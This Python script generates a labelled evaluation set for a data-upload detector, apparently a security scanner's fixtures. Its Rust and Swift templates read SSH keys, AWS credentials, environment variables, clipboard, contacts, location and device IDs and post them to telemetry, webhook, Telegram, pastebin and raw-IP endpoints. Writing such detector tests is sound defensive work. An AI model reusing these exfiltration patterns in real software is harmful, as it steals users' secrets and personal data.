#!/usr/bin/env python3
"""Generates the data-upload evaluation set: `data-upload/` and its `labels.tsv`.

Run from anywhere: `python3 test-fixtures/eval/gen_data_upload.py`; commit the
output with this script. Families are the rules. Each positive is a network
sink call that sensitive data reaches from its source through zero to three
local variables or helper functions; each negative is the same source used on
the device (logged, shown, written to a local file) or a harmless payload sent
to the network.
"""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from evalgen import Writer, write_manifest  # noqa: E402

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data-upload")

ENV = "data-upload/env-vars-to-network"
KEY = "data-upload/key-file-to-network"
DEVICE = "data-upload/device-id-to-network"
CLIP = "data-upload/clipboard-to-network"
LOCATION = "data-upload/location-to-network"
CONTACTS = "data-upload/contacts-to-network"
SUSPICIOUS = "data-upload/suspicious-destination"

files = []


def new(path):
    w = Writer(ROOT, path)
    files.append(w)
    return w


def fam(rule):
    return rule.split("/")[1]


# Rust sources: (rule, expression, type) — what a telemetry crate or a stealer reads.
RUST_SOURCES = [
    (ENV, "std::env::vars().collect::<std::collections::HashMap<String, String>>()", "env"),
    (ENV, 'std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default()', "env"),
    (KEY, 'std::fs::read_to_string(home.join(".ssh/id_rsa")).unwrap_or_default()', "key"),
    (KEY, 'std::fs::read_to_string(home.join(".aws/credentials")).unwrap_or_default()', "key"),
    (DEVICE, "hostname::get().unwrap_or_default().to_string_lossy().into_owned()", "device"),
    (DEVICE, "machine_uid::get().unwrap_or_default()", "device"),
    (CLIP, "arboard::Clipboard::new().and_then(|mut c| c.get_text()).unwrap_or_default()", "clip"),
]

# Rust sinks: the line the finding starts on is the one with the call.
RUST_SINKS = [
    'let _ = client.post(TELEMETRY).json(&{v}).send().await;',
    'let _ = client.post(TELEMETRY).body(format!("{{:?}}", {v})).send().await;',
    'let _ = ureq::post(TELEMETRY).send_string(&format!("{{:?}}", {v}));',
    'let _ = client.put(TELEMETRY).header("X-Report", format!("{{:?}}", {v})).send().await;',
]


def rust_telemetry(crate, sources, hops_cycle):
    w = new(f"rust/{crate}/src/telemetry.rs")
    w("use std::path::PathBuf;")
    w("")
    w('const TELEMETRY: &str = "https://telemetry.devtools-metrics.io/v2/report";')
    w("")
    w("fn home() -> PathBuf {")
    w('    dirs::home_dir().unwrap_or_else(|| PathBuf::from("/"))')
    w("}")
    w("")
    case = 0
    for rule, source, kind in sources:
        for sink in RUST_SINKS + RUST_SINKS:
            hops = hops_cycle[case % len(hops_cycle)]
            name = f"report_{kind}_{case}"
            if hops == "helper":
                w(f"fn collect_{case}(home: &std::path::Path) -> String {{")
                w(f'    format!("{{:?}}", {source})')
                w("}")
                w("")
            w(f"pub async fn {name}(client: &reqwest::Client) {{")
            w("    let home = home();")
            if hops == "helper":
                w(f"    let payload = collect_{case}(&home);")
            else:
                w(f"    let collected = {source};")
                var = "collected"
                for hop in range(hops):
                    w(f"    let step{hop} = {var};")
                    var = f"step{hop}"
                w(f"    let payload = {var};")
            w.pos(rule, fam(rule), "    " + sink.format(v="payload"), f"{kind} source, {hops} hops")
            w("}")
            w("")
            case += 1
    # Negatives: the same sources used on the machine, and harmless payloads.
    for i, (rule, source, kind) in enumerate(sources + sources):
        w(f"pub fn show_{kind}_{i}() {{")
        w("    let home = home();")
        w(f"    let value = {source};")
        w.neg(fam(rule), '    println!("{:?}", value);', "printed locally")
        w.neg(fam(rule), '    let _ = std::fs::write(home.join(".cache/devtools/last.txt"), format!("{:?}", value));', "written to a local cache")
        w("}")
        w("")
        w(f"pub async fn heartbeat_{i}(client: &reqwest::Client) {{")
        w('    let version = env!("CARGO_PKG_VERSION");')
        w.neg(fam(rule), '    let _ = client.post(TELEMETRY).json(&serde_json::json!({ "version": version, "ok": true })).send().await;', "non-sensitive payload")
        w("}")
        w("")
        w(f"pub async fn uptime_{i}(client: &reqwest::Client, started: std::time::Instant) {{")
        w("    let seconds = started.elapsed().as_secs();")
        w("    let report = format!(\"uptime={seconds}\");")
        w.neg(fam(rule), "    let _ = client.post(TELEMETRY).body(report).send().await;", "non-sensitive payload through a variable")
        w("}")
        w("")
    return w


rust_telemetry("devtools-metrics", RUST_SOURCES, [0, 1, 2, 3, "helper"])


def rust_destinations():
    w = new("rust/build-helper/src/report.rs")
    w("pub async fn send_all(client: &reqwest::Client, summary: &str) {")
    for url in ["http://45.77.12.190:8080/c", "https://discord.com/api/webhooks/1234567890123456789/abcdefABCDEF",
                "https://api.telegram.org/bot123456789:AAH/sendMessage", "https://pastebin.com/api/api_post.php",
                "https://webhook.site/2f1c9a7e-0b3d-4c55-9e1a-7a6b5c4d3e2f", "https://a1b2c3d4.ngrok-free.app/collect"]:
        w.pos(SUSPICIOUS, fam(SUSPICIOUS), f'    let _ = client.post("{url}").body(summary.to_owned()).send().await;', "suspicious destination")
    for url in ["https://api.github.com/repos/acme/build-helper/issues", "https://crates.io/api/v1/crates",
                "https://telemetry.devtools-metrics.io/v2/report", "https://hooks.acme-ci.io/build"]:
        w.neg(fam(SUSPICIOUS), f'    let _ = client.post("{url}").body(summary.to_owned()).send().await;', "ordinary destination")
    w("}")


rust_destinations()


# Swift sources: (rule, setup lines, value expression).
SWIFT_SOURCES = [
    (LOCATION, "let coordinate = locationManager.location?.coordinate", '"\\(coordinate?.latitude ?? 0),\\(coordinate?.longitude ?? 0)"', "location"),
    (CONTACTS, "let contacts = try? CNContactStore().unifiedContacts(matching: CNContact.predicateForContactsInContainer(withIdentifier: CNContactStore().defaultContainerIdentifier()), keysToFetch: [CNContactPhoneNumbersKey as CNKeyDescriptor])", "contacts?.map { $0.phoneNumbers.map { $0.value.stringValue } }.description ?? \"\"", "contacts"),
    (CLIP, "let pasted = UIPasteboard.general.string", 'pasted ?? ""', "clipboard"),
    (DEVICE, "let idfa = ASIdentifierManager.shared().advertisingIdentifier", "idfa.uuidString", "idfa"),
    (DEVICE, "let vendorID = UIDevice.current.identifierForVendor", 'vendorID?.uuidString ?? ""', "idfv"),
]

# (line preparing the request, line sending it, which of the two the finding
# starts on): data enters a request at `httpBody =`/`setValue`, and an upload
# task takes it as an argument.
SWIFT_SINKS = [
    ("request.httpBody = Data(payload.utf8)", "_ = try? await URLSession.shared.data(for: request)", 0),
    ("let body = Data(payload.utf8)", "_ = try? await URLSession.shared.upload(for: request, from: body)", 1),
    ('request.setValue(payload, forHTTPHeaderField: "X-Context")', "URLSession.shared.dataTask(with: request).resume()", 0),
]


def swift_sdk(module, sources):
    w = new(f"swift/{module}/Sources/{module}/Reporter.swift")
    w("import AdSupport")
    w("import Contacts")
    w("import CoreLocation")
    w("import Foundation")
    w("import UIKit")
    w("")
    w(f"public final class {module}Reporter {{")
    w("    private let locationManager = CLLocationManager()")
    w('    private let endpoint = URL(string: "https://collect.insightful-sdk.io/v1/events")!')
    w("")
    case = 0
    for rule, setup, value, kind in sources:
        for prepare, send, labelled in SWIFT_SINKS:
            for hops in (0, 1, 2):
                w(f"    public func report{kind.capitalize()}{case}() async {{")
                w(f"        {setup}")
                w(f"        let raw = {value}")
                var = "raw"
                for hop in range(hops):
                    w(f"        let step{hop} = {var}")
                    var = f"step{hop}"
                w(f"        let payload = {var}")
                w("        var request = URLRequest(url: endpoint)")
                w('        request.httpMethod = "POST"')
                lines = [f"        {prepare}", f"        {send}"]
                for index, line in enumerate(lines):
                    if index == labelled:
                        w.pos(rule, fam(rule), line, f"{kind} source, {hops} hops")
                    else:
                        w(line)
                w("    }")
                w("")
                case += 1
    for i, (rule, setup, value, kind) in enumerate(sources + sources):
        w(f"    public func show{kind.capitalize()}{i}(on label: UILabel) {{")
        w(f"        {setup}")
        w.neg(fam(rule), f"        label.text = {value}", "shown on the device")
        w("    }")
        w("")
        w(f"    public func cache{kind.capitalize()}{i}(to file: URL) {{")
        w(f"        {setup}")
        w(f"        let text = {value}")
        w.neg(fam(rule), "        try? Data(text.utf8).write(to: file, options: .completeFileProtection)", "saved on the device")
        w.neg(fam(rule), '        print("cached \\(text.count) characters")', "logged locally")
        w("    }")
        w("")
        w(f"    public func heartbeat{i}() async {{")
        w("        var request = URLRequest(url: endpoint)")
        w('        request.httpMethod = "POST"')
        w('        request.httpBody = Data("{\\"sdk\\":\\"2.4.1\\",\\"event\\":\\"launch\\"}".utf8)')
        w.neg(fam(rule), "        _ = try? await URLSession.shared.data(for: request)", "non-sensitive payload")
        w("    }")
        w("")
    w("}")


swift_sdk("Insightful", SWIFT_SOURCES)


HEADER = """# Labelled lines of the data-upload evaluation set, generated by
# ../gen_data_upload.py (do not edit by hand; regenerate). A line labelled with a
# rule id must get a finding of that rule starting on it; a line labelled `-`
# must stay silent, as must every line without a row.
"""

if __name__ == "__main__":
    write_manifest(ROOT, files, HEADER)
